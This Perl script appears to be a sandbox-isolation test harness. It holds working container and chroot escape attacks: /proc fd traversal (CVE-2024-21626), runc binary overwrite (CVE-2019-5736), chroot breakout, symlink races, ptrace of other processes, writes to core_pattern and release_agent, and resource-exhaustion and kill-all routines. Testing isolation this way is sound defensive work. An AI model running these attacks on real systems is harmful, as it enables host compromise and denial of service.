# Attacks of one process on all that is outside its root directory, with system calls of x86-64.
# usage: attack.pl NAME CANARY-DIRECTORY. Prints "reached ..." for each that works, "end" at last.
my ($name, $outside) = @ARGV;
$| = 1;

my %attacks = (
  # Forks twice, leaves the session, ignores signals; one of them is another process all the time.
  stay => sub {
    for my $hops (0, 1) {
      next if fork;
      setsid();
      exit if fork;
      $SIG{$_} = 'IGNORE' for qw(HUP INT TERM QUIT CHLD ALRM PIPE);
      open STDOUT, '>', '/dev/null'; open STDERR, '>', '/dev/null';
      while (1) { select undef, undef, undef, 0.005; exit if $hops && fork; }
    }
    select undef, undef, undef, 0.2;
  },

  # Opens 100,000 files in 100 processes, which stay.
  open => sub {
    for (1 .. 100) {
      next if fork;
      my @files;
      for (1 .. 1000) { open my $file, '<', '/etc/passwd' or last; push @files, $file; }
      $SIG{TERM} = 'IGNORE';
      open STDOUT, '>', '/dev/null'; open STDERR, '>', '/dev/null';
      sleep 1000;
    }
    select undef, undef, undef, 0.5;
  },

  # Fills the disk.
  fill => sub {
    open my $file, '>', '/full';
    my $block = 'x' x 65536;
    while (syswrite $file, $block) { }
    unlink '/full';
  },

  # Looks into, traces, limits and signals every other process, those that it can only guess too.
  processes => sub {
    my $text = 'x' x 64;
    my $vector = pack 'PQ', $text, 64;
    my $far = pack 'QQ', 0x400000, 64;
    for my $pid (grep { $_ != $$ } getppid(), 1 .. 100) {
      my %calls = (attach => [101, 16, $pid, 0, 0], seize => [101, 0x4206, $pid, 0, 0],
        read => [310, $pid, $vector, 1, $far, 1, 0], write => [311, $pid, $vector, 1, $far, 1, 0],
        signal => [62, $pid, 0], thread => [234, $pid, $pid, 0], queue => [129, $pid, 0, $text]);
      for (sort keys %calls) {
        my ($number, @args) = @{$calls{$_}};
        print "reached $_ $pid\n" if $pid > 0 && syscall($number, @args) >= 0;
      }
      my $file;
      for (qw(environ maps)) { print "reached $_ of $pid\n" if open($file, '<', "/proc/$pid/$_") && <$file> }
      print "reached the memory of $pid\n" if open $file, '+<', "/proc/$pid/mem";
      for (qw(root cwd)) { print "reached $_ of $pid\n" if -e "/proc/$pid/$_$outside/canary" }
      for my $fd (0 .. 30) { print "reached fd $fd of $pid\n" if -e "/proc/$pid/fd/$fd" }
    }
    # To all processes that may be signalled: only those of the build.
    kill 9, -1;
  },

  # CVE-2024-21626 and its kin: descriptors and links of /proc that lead out.
  proc => sub {
    my $up = '../' x 30 . $outside;
    for my $d (map({ "/proc/self/fd/$_" } 0 .. 40), qw(/proc/self/root /proc/self/cwd /proc/1/root /proc/1/cwd /proc /dev/fd)) {
      print "reached by $d\n" if -e "$d/$up/canary" || -e "$d$outside/canary" || (chdir $d and -e "$up/canary");
      chdir '/';
    }
    for (qw(/proc/sysrq-trigger /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/kcore /dev/mem /dev/kmsg
      /sys/kernel/uevent_helper /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/release_agent)) {
      print "reached $_\n" if open my $file, '+<', $_;
    }
  },

  # The classical way out of chroot, and devices of disks.
  root => sub {
    mkdir '/jail';
    opendir my $here, '/';
    if (chroot '/jail') {
      chdir '..' for 1 .. 40;
      chroot '.';
      print "reached the root\n" if open my $file, '<', "$outside/canary";
      open my $made, '>', "$outside/made";
    }
  },

  # Renames and exchanges directories and links while paths below them are in use.
  race => sub {
    mkdir $_ for qw(/t /t/a /t/d);
    symlink $outside, '/t/b'; symlink '../' x 20 . $outside, '/t/c';
    my @pairs = (['/t/a', '/t/b'], ['/t/d', '/t/c']);
    my $other = fork;
    if (!$other) { while (1) { for (@pairs) { my ($a, $b) = @$_; syscall 316, -100, $a, -100, $b, 2 } } }
    for (1 .. 60) {
      for my $directory ('/t/a', '/t/d') {
        my $path = "$directory/canary"; my $file;
        print "reached by a race\n" if open($file, '<', $path) && (<$file> // '') =~ /precious/;
        open($file, '>', $path) and print $file 'evil';
        chmod 0777, $path; utime 1, 1, $path; truncate $path, 1; mkdir "$directory/new"; symlink 'x', "$directory/link";
        rename $path, "$directory/moved"; unlink $path; rmdir "$directory/new";
      }
    }
    kill 9, $other; wait;
  },

  # CVE-2019-5736: the program that started this one.
  program => sub {
    for (map { "/proc/$_/exe" } 1 .. 100) {
      my ($pid) = /(\d+)/;
      print "reached $_\n" if $pid != $$ && readlink($_) !~ m{/perl$} && open my $file, '>', $_;
    }
  },

  # CVE-2024-23652: a link in the way of the mount point that is removed after the step.
  point => sub { rename '/made', '/moved'; symlink '../' x 20 . $outside, '/made' },
);

sub setsid { syscall 112 }

$attacks{$name}->();
print "end\n";
